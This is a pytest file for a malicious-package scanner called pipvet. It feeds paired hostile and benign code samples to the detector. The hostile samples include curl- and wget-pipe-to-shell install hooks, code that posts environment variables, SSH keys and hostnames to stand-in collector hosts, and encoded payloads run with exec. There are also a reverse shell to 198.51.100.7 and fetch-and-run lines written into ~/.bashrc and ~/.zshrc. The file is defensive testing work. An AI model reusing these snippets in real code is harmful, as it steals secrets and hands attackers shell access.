"""Detection rules that must hold on packages never seen: each behaviour has a malicious and an
honest sample, small, inert and written for this file (never taken from the corpus)."""

from __future__ import annotations

import textwrap

import pytest

from pipvet.core.analysis.engine import analyze
from pipvet.core.analysis.model import Artifact, Finding, Member

FLAGGED = ("suspicious", "malicious")


def scan(files: dict[str, str | bytes], name: str = "demo"):
    members = []
    for path, content in files.items():
        data = content if isinstance(content, bytes) else textwrap.dedent(content).encode()
        members.append(Member(path=f"{name}-1.0/{path}", size=len(data), data=data))
    return analyze(Artifact(f"{name}-1.0.tar.gz", "sdist", name, "1.0", members=tuple(members)))


def rules(result, at_least: str = "low") -> set[str]:
    order = ("info", "low", "medium", "high", "critical")
    return {f.rule for f in result.findings if order.index(f.severity) >= order.index(at_least)}


def severities(result, rule: str) -> set[str]:
    return {f.severity for f in result.findings if f.rule == rule}


def worst(result) -> list[Finding]:
    return [f for f in result.findings if f.severity in ("high", "critical")]


# -- setup.py branches only a maintainer runs -------------------------------------------------


def test_publish_branch_of_setup_py_is_not_install_time() -> None:
    src = """
        import os, sys
        from setuptools import setup
        if sys.argv[-1] == "publish":
            os.system("python setup.py sdist bdist_wheel")
            os.system("twine upload dist/*")
            sys.exit()
        setup(name="demo")
    """
    result = scan({"setup.py": src})
    assert result.verdict not in FLAGGED, worst(result)
    assert not worst(result)


@pytest.mark.parametrize(
    ("test", "install_time"),
    [
        ('sys.argv[-1].startswith("publish")', False),
        ('sys.argv[-1].startswith(("upload", "release"))', False),
        ('sys.argv[-1].startswith("b")', True),  # bdist_wheel, build: installs
        ('not sys.argv[-1].startswith("publish")', True),  # every other command
        ("sys.argv[-1].startswith(PREFIX)", True),  # not a constant: not known
    ],
)
def test_a_branch_for_commands_with_a_maintainers_prefix(test: str, install_time: bool) -> None:
    src = f"""
        import os, sys
        from setuptools import setup
        PREFIX = os.environ.get("PREFIX", "")
        if {test}:
            os.system("curl -s http://198.51.100.7/x | sh")
            sys.exit()
        setup(name="demo")
    """
    assert (scan({"setup.py": src}).verdict == "malicious") is install_time


def test_install_branch_of_setup_py_still_runs_at_install() -> None:
    src = """
        import os, sys
        from setuptools import setup
        if "install" in sys.argv:
            os.system("curl -s http://198.51.100.7/x | sh")
        setup(name="demo")
    """
    assert scan({"setup.py": src}).verdict == "malicious"


# -- data-flow labels ----------------------------------------------------------------------------


def test_proxy_settings_from_the_environment_are_not_exfiltration() -> None:
    src = """
        import os
        import requests

        PROXIES = {k: v for k, v in os.environ.items() if k.lower().endswith("_proxy")}
        CA = os.environ.get("REQUESTS_CA_BUNDLE")
        r = requests.get(
            "https://api.example.org/v1/ping", proxies=PROXIES, verify=CA or True,
            timeout=float(os.getenv("DEMO_TIMEOUT", "5")),
        )
    """
    result = scan({"demo/__init__.py": src})
    assert "intent.exfiltration" not in rules(result)


def test_settings_read_through_aliases_of_the_environment_are_still_settings() -> None:
    """The check for a configuration read names its getter however it is reached: an aliased
    ``getenv``, an aliased ``environ`` item (no ``.get`` / ``.environ`` attribute to go by)."""
    src = """
        import requests
        from os import environ as E, getenv as ge

        requests.get(
            "https://api.example.org/v1/ping", verify=E["SSL_CERT_FILE"],
            proxies={"https": ge("HTTPS_PROXY")},
        )
    """
    assert "intent.exfiltration" not in rules(scan({"demo/__init__.py": src}))
    hostile = """
        import requests
        from os import environ as E

        requests.post("https://collect.example.net/e", data=E["AWS_SECRET_ACCESS_KEY"])
    """
    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": hostile}))


def test_environment_dump_posted_on_import_is_exfiltration() -> None:
    src = """
        import os
        import requests

        requests.post("https://collect.example.net/e", json=dict(os.environ))
    """
    result = scan({"demo/__init__.py": src})
    assert "intent.exfiltration" in rules(result, "critical")
    assert result.verdict == "malicious"


def test_one_secret_attribute_does_not_taint_the_whole_object() -> None:
    src = """
        import os, socket
        import requests

        class Client:
            def __init__(self):
                self.env = os.environ.copy()  # handed to subprocesses later
                self.host = socket.gethostname()
                self.base = "https://api.example.org"
                requests.get(self.base + "/status", headers={"X-Client": "demo"})

        CLIENT = Client()
    """
    assert "intent.exfiltration" not in rules(scan({"demo/__init__.py": src}))


def test_secret_attribute_sent_on_import_is_exfiltration() -> None:
    src = """
        import socket, getpass
        import requests

        class Box:
            pass

        box = Box()
        box.who = socket.gethostname() + getpass.getuser()
        requests.post("https://collect.example.net/b", data=box.who)
    """
    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")


def test_wallet_words_in_a_path_name_are_not_a_secret() -> None:
    src = """
        import requests

        def fetch(private_key_path, mnemonic_length=12):
            return requests.post("https://signer.example.org/v1",
                                 json={"path": private_key_path, "n": mnemonic_length})
    """
    assert "intent.exfiltration" not in rules(scan({"demo/client.py": src}))


def test_a_wallet_key_sent_away_is_exfiltration() -> None:
    src = """
        import requests

        def backup(private_key):
            requests.post("https://collect.example.net/k", data={"k": private_key})
    """
    assert "intent.exfiltration" in rules(scan({"demo/client.py": src}), "high")


def test_a_key_named_like_a_wallet_key_that_authenticates_a_request_is_not_sent_away() -> None:
    """An API key kept in ``private_key`` goes in the Authorization header of a log sender's
    requests: that is how the request authenticates, not what it sends."""
    src = """
        import requests

        def send(bulk, url):
            private_key = bulk.get("privateKey", "")
            headers = {"Authorization": "Bearer {}".format(private_key)}
            requests.post(url=url, json=bulk.get("logEntries", []), headers=headers)
    """
    assert "intent.exfiltration" not in rules(scan({"demo/client.py": src}))


def test_a_wallet_key_in_the_body_beside_an_auth_header_is_still_sent_away() -> None:
    src = """
        import requests

        def send(bulk, url):
            private_key = bulk.get("privateKey", "")
            headers = {"Authorization": "Bearer {}".format(private_key)}
            requests.post("https://collect.example.net/k", json={"k": private_key}, headers=headers)
    """
    assert "intent.exfiltration" in rules(scan({"demo/client.py": src}), "high")


DOWNLOAD_TO_USER_CACHE = """
    import getpass, tempfile, urllib.request
    from pathlib import Path

    def fetch_plugin():
        cache = Path(tempfile.gettempdir()) / f"demo_{getpass.getuser()}"
        url = URL
        urllib.request.urlretrieve(url, cache / "plugin.whl")
        return cache
"""


def test_the_local_file_a_download_is_saved_to_is_not_sent() -> None:
    """A per-user cache folder (the user's name in its path) is where the file lands."""
    src = DOWNLOAD_TO_USER_CACHE.replace("URL", '"https://pypi.example.org/plugin.whl"')
    assert "intent.exfiltration" not in rules(scan({"demo/plugin.py": src}))


def test_the_user_name_in_the_address_of_a_download_is_still_sent() -> None:
    src = DOWNLOAD_TO_USER_CACHE.replace(
        "URL", '"https://t.demo-stats.xyz/p?u=" + getpass.getuser()'
    )
    assert "intent.exfiltration" in rules(scan({"demo/plugin.py": src}), "high")


def test_machine_architecture_in_a_download_url_is_not_host_identity() -> None:
    src = """
        import platform, urllib.request
        from setuptools import setup

        url = f"https://downloads.example.org/tool-{platform.system()}-{platform.machine()}.tar.gz"
        urllib.request.urlretrieve(url, "build/tool.tar.gz")
        setup(name="demo")
    """
    assert "intent.exfiltration" not in rules(scan({"setup.py": src}))


def test_hostname_in_a_url_at_install_is_exfiltration() -> None:
    src = """
        import socket, urllib.request
        from setuptools import setup

        urllib.request.urlopen("https://collect.example.net/?h=" + socket.gethostname())
        setup(name="demo")
    """
    assert "intent.exfiltration" in rules(scan({"setup.py": src}), "critical")


def test_decoding_a_parameter_is_a_codec_not_a_hidden_payload() -> None:
    src = """
        import base64

        def run_snippet(encoded):
            return eval(base64.b64decode(encoded))
    """
    result = scan({"demo/expr.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_decoding_helper_fed_a_blob_on_import_is_decode_execute() -> None:
    src = """
        import base64

        def unpack(s):
            return base64.b64decode(s)

        exec(unpack("cHJpbnQoJ2hlbGxvIGZyb20gYSBoaWRkZW4gcGF5bG9hZCcp"))
    """
    result = scan({"demo/__init__.py": src})
    assert "intent.decode-execute" in rules(result, "critical")


def test_pickle_round_trip_of_a_response_is_not_downloaded_code() -> None:
    src = """
        import pickle
        import requests

        def test_response_pickles():
            r = requests.get("https://httpbin.example.org/get")
            assert pickle.loads(pickle.dumps(r)).status_code == r.status_code
    """
    assert "intent.download-execute" not in rules(scan({"demo/checks.py": src}), "high")


def test_pickle_of_downloaded_bytes_on_import_is_download_execute() -> None:
    src = """
        import pickle
        import urllib.request

        pickle.loads(urllib.request.urlopen("https://cdn.example.net/p.bin").read())
    """
    assert "intent.download-execute" in rules(scan({"demo/__init__.py": src}), "critical")


# -- shell strings: their function decides, and messages are not commands -------------------------


def test_a_curl_pipe_sh_hint_in_an_error_message_is_not_run() -> None:
    src = """
        import shutil, subprocess
        from setuptools import setup

        def need_rust():
            if shutil.which("cargo") is None:
                raise RuntimeError(
                    "Rust is needed: curl --proto '=https' -sSf https://sh.rustup.rs | sh"
                )
            subprocess.check_call(["cargo", "--version"])

        need_rust()
        setup(name="demo")
    """
    result = scan({"setup.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_a_shell_command_run_by_its_function_at_install_is_malicious() -> None:
    src = """
        import subprocess
        from setuptools import setup

        def bootstrap():
            cmd = ["sh", "-c", "wget -qO- http://198.51.100.7/i | sh"]
            subprocess.Popen(cmd)

        bootstrap()
        setup(name="demo")
    """
    assert scan({"setup.py": src}).verdict == "malicious"


def test_config_tools_are_build_tools() -> None:
    src = """
        import subprocess
        from setuptools import setup, Extension

        flags = subprocess.check_output("gdal-config --cflags", shell=True).split()
        libs = subprocess.check_output(["mariadb_config", "--libs"]).split()
        setup(name="demo", ext_modules=[Extension("demo._c", ["c.c"], extra_compile_args=flags)])
    """
    result = scan({"setup.py": src})
    assert result.verdict not in FLAGGED, worst(result)


# -- bidi controls: a trick in Python code, not in tables, prose or JavaScript ---------------------


def test_bidi_controls_in_tables_comments_and_javascript_are_not_trojan_source() -> None:
    table = 'BIDI = {"\u202e": "RLO", "\u2066": "LRI", "\u2069": "PDI"}\n'
    comment = "# \u05e9\u05dc\u05d5\u05dd \u202b\u05e2\u05d5\u05dc\u05dd\u202c\nX = 1\n"
    js = 'var s = "\u202eabc\u202c" + x;\n'
    result = scan({"demo/table.py": table, "demo/he.py": comment, "demo/static/app.js": js})
    assert "obfuscation.bidi" not in rules(result)


def test_bidi_controls_inside_python_strings_are_trojan_source() -> None:
    src = 'access = "user\u202e \u2066# admin\u2069 \u2066"\nif access != "none":\n    pass\n'
    assert "obfuscation.bidi" in rules(scan({"demo/__init__.py": src}), "high")


# -- imports below their use ---------------------------------------------------------------------


def test_imports_below_the_calls_still_name_the_module() -> None:
    src = """
        def beacon():
            requests.post("https://collect.example.net/", data=socket.gethostname())

        beacon()
        import requests
        import socket
    """
    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")


def test_imports_below_the_calls_in_honest_code_stay_quiet() -> None:
    src = """
        def version():
            return json.dumps({"v": "1.0"})

        import json
    """
    assert scan({"demo/__init__.py": src}).verdict == "clean"


# -- custom ciphers ------------------------------------------------------------------------------


def test_xor_deciphered_text_executed_on_import_is_decode_execute() -> None:
    src = """
        KEY = 23
        BLOB = [103, 101, 126, 121, 99, 63, 48, 127, 114, 123, 123, 120, 48, 62]

        code = "".join(chr(b ^ KEY) for b in BLOB)
        exec(code)
    """
    assert "intent.decode-execute" in rules(scan({"demo/__init__.py": src}), "critical")


def test_substitution_alphabet_then_compile_is_decode_execute() -> None:
    src = """
        TABLE = str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")

        def load(text):
            source = ""
            for ch in text:
                source += chr(ord(ch) - 1)
            return source

        exec(compile(load("qsjou)2*").translate(TABLE), "<x>", "exec"))
    """
    assert "intent.decode-execute" in rules(scan({"demo/__init__.py": src}), "critical")


def test_xor_in_honest_code_that_is_never_executed_is_quiet() -> None:
    src = """
        def mask(data, key):
            return bytes(b ^ key[i % 4] for i, b in enumerate(data))

        def caesar(text, n):
            return "".join(chr((ord(c) - 97 + n) % 26 + 97) for c in text)
    """
    assert scan({"demo/util.py": src}).verdict == "clean"


# -- helpers defined after their callers ---------------------------------------------------------


def test_secrets_from_a_helper_defined_later_are_still_labelled() -> None:
    src = """
        import requests

        def send():
            requests.post("https://collect.example.net/i", json=collect())

        def collect():
            import getpass, socket
            return {"u": getpass.getuser(), "h": socket.gethostname()}

        send()
    """
    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")


# -- command lines that reach the network --------------------------------------------------------


def test_dns_lookup_of_the_hostname_on_import_is_exfiltration() -> None:
    src = """
        import os, socket

        os.system("nslookup " + socket.gethostname() + ".dns.collector.example.net")
    """
    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")


def test_curl_run_by_a_function_to_fetch_a_file_is_not_intent() -> None:
    src = """
        import subprocess

        def fetch(url, dest):
            subprocess.run(["curl", "-sSfL", url, "-o", dest], check=True)
            return dest
    """
    result = scan({"demo/fetch.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_pip_install_on_import_is_a_second_stage() -> None:
    src = """
        import subprocess, sys

        subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "colourful-logs"])
    """
    assert "intent.download-execute" in rules(scan({"demo/__init__.py": src}), "high")


def test_pip_install_offered_by_a_command_is_not_flagged() -> None:
    src = """
        import subprocess, sys

        def install_extras():
            subprocess.check_call([sys.executable, "-m", "pip", "install", "demo[all]"])
    """
    result = scan({"demo/cli.py": src})
    assert result.verdict not in FLAGGED, worst(result)


def test_wget_download_then_startfile_is_download_execute() -> None:
    src = """
        import os, tempfile
        import wget

        path = wget.download("https://cdn.example.net/update.bin", tempfile.gettempdir())
        os.startfile(path)
    """
    assert "intent.download-execute" in rules(scan({"demo/__init__.py": src}), "high")


def test_wget_download_of_data_is_not_download_execute() -> None:
    src = """
        import wget

        def fetch_model(dest):
            return wget.download("https://models.example.org/small.onnx", dest)
    """
    assert "intent.download-execute" not in rules(scan({"demo/models.py": src}))


def test_host_identity_sent_to_a_fixed_host_when_called_is_suspicious() -> None:
    src = """
        import getpass, socket
        import requests

        def report():
            requests.post("https://stats.collector-host.net/r",
                          json={"h": socket.gethostname(), "u": getpass.getuser()})
    """
    assert "intent.exfiltration" in rules(scan({"demo/stats.py": src}), "high")


def test_host_identity_sent_to_a_url_the_user_gives_is_not_flagged() -> None:
    src = """
        import socket
        import requests

        def register(server_url):
            requests.post(server_url + "/agents", json={"name": socket.gethostname()})
    """
    assert "intent.exfiltration" not in rules(scan({"demo/agent.py": src}))


# -- persistence, dropped scripts and code kept in strings -----------------------------------------


def test_copying_into_the_startup_folder_on_import_is_persistence() -> None:
    src = r"""
        import os, shutil, sys

        appdata = os.getenv("APPDATA")
        target = os.path.join(appdata, "Microsoft\\Windows\\Start Menu\\Programs\\Startup")
        shutil.copy(sys.argv[0], target)
    """
    assert "intent.persistence" in rules(scan({"demo/__init__.py": src}), "critical")


def test_a_cli_adding_completion_to_bashrc_on_request_is_not_flagged() -> None:
    src = """
        import os

        def install_completion():
            with open(os.path.expanduser("~/.bashrc"), "a") as rc:
                rc.write('eval "$(_DEMO_COMPLETE=bash_source demo)"\\n')
    """
    result = scan({"demo/cli.py": src})
    assert result.verdict not in FLAGGED, worst(result)
    assert "intent.persistence" in rules(result)  # worth knowing, at a low weight


def test_script_written_then_run_at_install_is_flagged() -> None:
    src = """
        import os, subprocess, sys, tempfile
        from setuptools import setup

        stage = os.path.join(tempfile.gettempdir(), "stage.py")
        with open(stage, "w") as f:
            f.write("import urllib.request\\nurllib.request.urlopen('https://c.example.net/x')\\n")
        subprocess.Popen([sys.executable, stage])
        setup(name="demo")
    """
    result = scan({"setup.py": src})
    assert "intent.write-execute" in rules(result, "high")
    assert result.verdict in FLAGGED


def test_config_written_then_git_run_is_not_write_execute() -> None:
    src = """
        import subprocess

        def init_repo(path):
            with open(path + "/.gitignore", "w") as f:
                f.write("build/\\ndist/\\n*.egg-info/\\n__pycache__/\\n")
            subprocess.run(["git", "init", path], check=True)
    """
    assert "intent.write-execute" not in rules(scan({"demo/repo.py": src}))


def test_literal_code_given_to_exec_is_analysed() -> None:
    src = """
        exec("import requests,socket;"
             "requests.post('https://c.collector-host.net/h', data=socket.gethostname())")
    """
    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")


def test_literal_compat_code_given_to_exec_stays_quiet() -> None:
    src = """
        import sys
        if sys.version_info < (3,):
            exec("def reraise(tp, value, tb=None):\\n    raise tp, value, tb\\n")
        else:
            exec("def reraise(tp, value, tb=None):\\n    raise value.with_traceback(tb)\\n")
    """
    result = scan({"demo/compat.py": src})
    assert result.verdict not in FLAGGED, worst(result)


# -- roles decided by the package, not by names alone ----------------------------------------------


EXFIL_ON_IMPORT = """
    import socket
    import requests

    requests.post("https://c.collector-host.net/", data=socket.gethostname())
"""


def test_a_test_named_module_the_package_imports_is_package_code() -> None:
    files = {
        "demo/__init__.py": "from . import test_utils\n",
        "demo/test_utils.py": EXFIL_ON_IMPORT,
    }
    assert scan(files).verdict in FLAGGED


def test_a_test_module_nothing_imports_stays_a_test() -> None:
    files = {"demo/__init__.py": "VERSION = '1.0'\n", "demo/test_utils.py": EXFIL_ON_IMPORT}
    assert scan(files).verdict not in FLAGGED


STEALER_ON_IMPORT = """
    import os
    import requests

    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.post("https://c.collector-host.net/", data=key)
"""


@pytest.mark.parametrize(
    "loader",
    [
        'import importlib\nimportlib.import_module("demo.tests.helper")\n',
        'import importlib\nimportlib.import_module(".tests.helper", __name__)\n',
        '__import__("demo.tests.helper")\n',
        "import os, runpy\n"
        'runpy.run_path(os.path.join(os.path.dirname(__file__), "tests/helper.py"))\n',
    ],
)
def test_a_test_module_the_package_loads_by_its_name_is_package_code(loader: str) -> None:
    """Loaded on import by its exact name or path: a payload there runs on import, in full."""
    files = {"demo/__init__.py": loader, "demo/tests/helper.py": STEALER_ON_IMPORT}
    result = scan(files)
    assert result.verdict == "malicious", result.findings
    assert "demo-1.0/demo/tests/helper.py" in result.package_code


def test_a_test_module_only_named_by_a_word_stays_a_test() -> None:
    """A bare word ("helper") names no module for sure: the file is read, but as a test."""
    files = {
        "demo/__init__.py": 'KIND = "helper"\n',
        "demo/tests/helper.py": STEALER_ON_IMPORT,
    }
    result = scan(files)
    assert result.verdict != "malicious"
    assert "demo-1.0/demo/tests/helper.py" not in result.package_code


# -- a package's __main__.py runs for `python -m pkg`, not on import ------------------------------

STARTUP_HOOK = """
    import os, site
    path = os.path.join(site.getusersitepackages(), "sitecustomize.py")
    with open(path, "a") as out:
        out.write("import demo\\n")
"""


def test_a_main_module_nothing_imports_runs_when_called() -> None:
    """``python -m demo`` writing a startup hook is the user's command (a tool installing
    itself): not code that runs on import."""
    result = scan({"demo/__init__.py": "VERSION = '1.0'\n", "demo/__main__.py": STARTUP_HOOK})
    assert "intent.persistence" in rules(result)
    assert "critical" not in severities(result, "intent.persistence")
    assert result.verdict not in FLAGGED, worst(result)


@pytest.mark.parametrize(
    "init",
    [
        "from .__main__ import out\n",
        "from demo import __main__\n",
        'import importlib\nimportlib.import_module("demo.__main__")\n',
        'import runpy\nrunpy.run_module("demo", run_name="__main__")\n',
    ],
)
def test_a_main_module_the_package_loads_runs_on_import(init: str) -> None:
    result = scan({"demo/__init__.py": init, "demo/__main__.py": STEALER_ON_IMPORT})
    assert result.verdict == "malicious", result.findings


def test_a_main_module_setup_py_runs_is_install_time() -> None:
    setup = """
        import subprocess, sys
        from setuptools import setup
        subprocess.check_call([sys.executable, "-m", "demo"])
        setup(name="demo", packages=["demo"])
    """
    files = {"setup.py": setup, "demo/__init__.py": "", "demo/__main__.py": STEALER_ON_IMPORT}
    assert scan(files).verdict == "malicious"


# -- a module whose import stops with NameError: code for a namespace a caller prepares --------

REMOTE_RUNNER = """
    import sys
    import zlib

    stdin = stdin  # given by the process that sends this file to the remote host
    while True:
        size = int(stdin.readline())
        if not size:
            break
        exec(compile(zlib.decompress(stdin.read(size)), "<remote>", "exec"))
"""


def test_a_module_whose_import_stops_at_a_missing_name_runs_when_called() -> None:
    files = {"demo/__init__.py": "", "demo/remote.py": REMOTE_RUNNER}
    result = scan(files)
    assert "intent.decode-execute" in rules(result)
    assert "critical" not in severities(result, "intent.decode-execute")
    assert result.verdict != "malicious"


@pytest.mark.parametrize(
    "files",
    [
        # the name is a builtin of a newer Python: the import goes on
        {"demo/remote.py": REMOTE_RUNNER.replace("stdin = stdin", "ExceptionGroup")},
        # something runs before the missing name is read
        {"demo/remote.py": REMOTE_RUNNER.replace("stdin = stdin", "sys.stdin.flush()\nstdin = x")},
        # an earlier statement binds it
        {"demo/remote.py": REMOTE_RUNNER.replace("import zlib", "import zlib\nstdin = 0")},
        # a later one does: an import misplaced below the code that uses it
        {
            "demo/remote.py": REMOTE_RUNNER.replace("stdin = stdin", "stdin = sys.stdin.buffer")
            .replace("import sys\n", "")
            .replace("import zlib", "import zlib\nsys.stdout.flush()")
            + "import sys\n"
        },
        # the package gives the name to every module through builtins, then imports it
        {
            "demo/__init__.py": "import builtins, sys\nbuiltins.stdin = sys.stdin.buffer\n"
            "from . import remote\n",
            "demo/remote.py": REMOTE_RUNNER,
        },
        # a module of its own imported first may set the name on the half-made module
        {
            "demo/boot.py": "import sys\nsys.modules['demo.remote'].stdin = sys.stdin.buffer\n",
            "demo/remote.py": REMOTE_RUNNER.replace("import zlib", "import zlib\nimport demo.boot"),
        },
    ],
)
def test_a_module_that_may_import_fine_keeps_its_import_time_code(files: dict[str, str]) -> None:
    result = scan({"demo/__init__.py": "", **files})
    assert "critical" in severities(result, "intent.decode-execute"), result.findings
    assert result.verdict == "malicious"


@pytest.mark.parametrize(
    ("source", "line"),
    [
        ('"""doc"""\nimport sys\nN = 3\ndef f(a=1):\n    pass\nchannel = channel\nrun()\n', 6),
        ("gateway.send(1)\n", 1),
        ("x = missing.attr[0].call()\n", 1),
        ("counter += 1\n", 1),
        ("print(missing)\n", None),  # print itself is read first, and exists
        ("import os\nx = os\nmissing\n", None),  # something ran first
        ("missing\nmissing = 1\n", None),  # bound further down
        ("os.system('id')\nimport os\n", None),  # a misplaced import
        ("def f():\n    global missing\n    missing = 1\nmissing\n", None),
        ("from x import *\nmissing\n", None),
        ("unicode\n", None),  # Python 2's builtin
        ("ExceptionGroup\n", None),  # a newer Python's
        ("@deco\ndef f():\n    pass\nmissing\n", None),  # the decorator runs first
    ],
)
def test_where_an_import_stops(source: str, line: int | None) -> None:
    import ast

    from pipvet.core.analysis.facts.namespace import import_stops_at

    found = import_stops_at(ast.parse(source))
    assert (found[0] if found else None) == line


def test_a_file_setup_py_runs_with_the_interpreter_is_install_time_python() -> None:
    setup = """
        import subprocess, sys
        from setuptools import setup
        subprocess.call([sys.executable, "build_helpers/post_install"])
        setup(name="demo")
    """
    result = scan({"setup.py": setup, "build_helpers/post_install": EXFIL_ON_IMPORT})
    assert "intent.exfiltration" in rules(result, "critical")
    assert result.verdict == "malicious"


def test_a_data_file_setup_py_only_names_is_not_parsed() -> None:
    setup = """
        from setuptools import setup
        setup(name="demo", data_files=[("share", ["build_helpers/post_install"])])
    """
    result = scan({"setup.py": setup, "build_helpers/post_install": EXFIL_ON_IMPORT})
    assert "intent.exfiltration" not in rules(result)


# -- data downloaded at install and never run ------------------------------------------------------


def test_data_downloaded_at_install_beside_an_unrelated_exec_is_not_malicious() -> None:
    src = """
        import urllib.request
        from setuptools import setup

        about = {}
        with open("demo/__about__.py") as f:
            exec(f.read(), about)

        def fetch_font():
            data = urllib.request.urlopen("https://fonts.example.org/Demo.ttf").read()
            with open("demo/fonts/Demo.ttf", "wb") as out:
                out.write(data)

        fetch_font()
        setup(name="demo", version=about["__version__"])
    """
    result = scan({"setup.py": src})
    assert result.verdict != "malicious", worst(result)
    assert not [
        f for f in result.findings if f.rule.startswith("intent.") and f.severity != "medium"
    ]


def test_downloaded_program_written_and_run_at_install_is_malicious() -> None:
    src = """
        import os, subprocess, urllib.request
        from setuptools import setup

        def fetch_tool():
            data = urllib.request.urlopen("https://cdn.example.net/tool").read()
            with open("/tmp/tool", "wb") as out:
                out.write(data)
            os.chmod("/tmp/tool", 0o755)
            subprocess.Popen(["/tmp/tool"])

        fetch_tool()
        setup(name="demo")
    """
    assert scan({"setup.py": src}).verdict == "malicious"


def test_urlretrieve_then_startfile_on_import_is_malicious() -> None:
    src = """
        import os, tempfile
        from urllib.request import urlretrieve

        def update():
            path = os.path.join(tempfile.gettempdir(), "upd.bin")
            urlretrieve("https://cdn.example.net/upd.bin", path)
            os.startfile(path)

        update()
    """
    result = scan({"demo/__init__.py": src})
    assert "intent.download-execute" in rules(result, "critical")


def test_urlretrieve_then_tar_at_install_is_not_download_execute() -> None:
    src = """
        import subprocess
        from urllib.request import urlretrieve
        from setuptools import setup

        archive = "build/headers.tar.gz"
        urlretrieve("https://downloads.example.org/headers-1.2.tar.gz", archive)
        subprocess.check_call(["tar", "xzf", archive, "-C", "build"])
        setup(name="demo")
    """
    result = scan({"setup.py": src})
    assert result.verdict != "malicious", worst(result)
    assert "intent.download-execute" not in rules(result, "high")


_VERIFIED = """
    import subprocess
    from urllib.request import urlopen

    def fetch_release(url, path):
        with open(path, "wb") as f:
            f.write(urlopen(url).read())
        subprocess.check_call(["gpgv", "--keyring", "release.kbx", path + ".asc", path])
"""


def test_a_download_checked_with_gpgv_is_handled_as_data() -> None:
    result = scan({"setup.py": "", "demo/__init__.py": "", "demo/fetch.py": _VERIFIED})
    drops = [f for f in result.findings if f.rule == "intent.drop-payload"]
    assert drops and {f.severity for f in drops} == {"medium"}
    run = _VERIFIED.replace('["gpgv", "--keyring", "release.kbx", path + ".asc", path]', "[path]")
    result = scan({"setup.py": "", "demo/__init__.py": "", "demo/fetch.py": run})
    drops = [f for f in result.findings if f.rule == "intent.drop-payload"]
    assert drops and {f.severity for f in drops} == {"high"}


def test_host_identity_sent_to_a_url_built_on_a_fixed_host_is_suspicious() -> None:
    src = """
        import os, socket
        from urllib.parse import urlencode
        import requests

        SERVER = "http://collector-host.net:4242/api/log"

        def notify():
            query = urlencode({"h": socket.gethostname(), "cwd": os.getcwd()})
            full = f"{SERVER}?{query}"
            requests.get(full, timeout=5)
    """
    assert "intent.exfiltration" in rules(scan({"demo/notify.py": src}), "high")


def test_host_identity_sent_to_a_configured_base_url_is_not_flagged() -> None:
    src = """
        import socket
        import requests

        class Agent:
            def __init__(self, base_url):
                self.base_url = base_url

            def register(self):
                url = f"{self.base_url}/agents"
                requests.post(url, json={"name": socket.gethostname()})
    """
    assert "intent.exfiltration" not in rules(scan({"demo/agent.py": src}))


# -- reverse shells: socket, descriptors and shell in one place ------------------------------------


def test_socket_dup2_and_pty_shell_in_one_function_is_a_reverse_shell() -> None:
    src = """
        import os, pty, socket

        def connect_back():
            s = socket.socket()
            s.connect(("198.51.100.7", 9001))
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            pty.spawn("/bin/bash")

        connect_back()
    """
    assert scan({"demo/__init__.py": src}).verdict == "malicious"


def test_a_supervisor_redirecting_stdio_to_a_socketpair_is_not_a_reverse_shell() -> None:
    src = """
        import os, socket, subprocess

        def start_child(argv):
            parent, child = socket.socketpair()
            proc = subprocess.Popen(argv, stdin=child, stdout=child)
            return parent, proc

        def reopen_std_io(sock):
            for fd in (0, 1, 2):
                os.dup2(sock.fileno(), fd)
    """
    assert "intent.reverse-shell" not in rules(scan({"demo/supervisor.py": src}))


def test_a_tests_folder_module_the_package_imports_counts_in_full() -> None:
    files = {
        "demo/__init__.py": "from .tests import helpers\nhelpers.setup_colours()\n",
        "demo/tests/__init__.py": "",
        "demo/tests/helpers.py": """
            import os

            def setup_colours():
                with open(os.path.expanduser("~/.bashrc"), "a") as rc:
                    rc.write("curl -s https://cdn.example.net/c | sh\\n")
        """,
    }
    result = scan(files)
    assert "intent.persistence" in rules(result, "critical")
    assert result.verdict == "malicious"
    assert result.package_code == {
        "demo-1.0/demo/tests/helpers.py",
        "demo-1.0/demo/tests/__init__.py",
    }


def test_autostart_written_with_a_fetch_and_run_line_is_high_even_on_request() -> None:
    src = """
        import os

        def reset():
            with open(os.path.expanduser("~/.zshrc"), "a") as rc:
                rc.write("wget -q https://cdn.example.net/p -O /tmp/p && "
                         "chmod +x /tmp/p && /tmp/p &\\n")
    """
    assert "intent.persistence" in rules(scan({"demo/term.py": src}), "high")


ADD_TO_PATH = """
    import os

    def add_to_path(folder, system):
        if system == "Windows":
            import winreg
            with winreg.ConnectRegistry(None, winreg.HKEY_CURRENT_USER) as root:
                with winreg.OpenKey(root, "Environment", 0, winreg.KEY_ALL_ACCESS) as key:
                    old = winreg.QueryValueEx(key, "PATH")[0]
                    winreg.SetValueEx(key, "PATH", 0, winreg.REG_EXPAND_SZ, old + ";" + folder)
        else:
            rc = os.path.expanduser("~/.bashrc")
            with open(rc, "a") as f:
                f.write("\\n# Added by demo\\n")
                f.write(f"export PATH=$PATH:{folder}")
"""


def test_an_installer_appending_its_folder_to_path_is_not_persistence() -> None:
    """outerbounds: `export PATH=$PATH:...` in ~/.bashrc, or the user's Environment key:
    nothing runs when a shell starts. Said (low), not a sign of intent beside its download of
    the tool it puts there."""
    download = """

    import requests

    def fetch_tool(target, folder):
        data = requests.get("https://example.com/dl/tool.exe").content
        with open(target, "wb") as f:
            f.write(data)
        add_to_path(folder, "Windows")
    """
    result = scan({"demo/cli.py": ADD_TO_PATH + download})
    assert severities(result, "intent.persistence") == {"low"}
    assert result.verdict not in FLAGGED, worst(result)


@pytest.mark.parametrize(
    "line",
    [
        'f"export PATH={folder}:$PATH"',  # put before the system's: its `ls` wins
        'f"export LD_PRELOAD={folder}/hook.so"',
        'f"export TOKEN=$(cat {folder}/t)"',  # a command run by every shell
        'f"{folder}/agent &"',
    ],
)
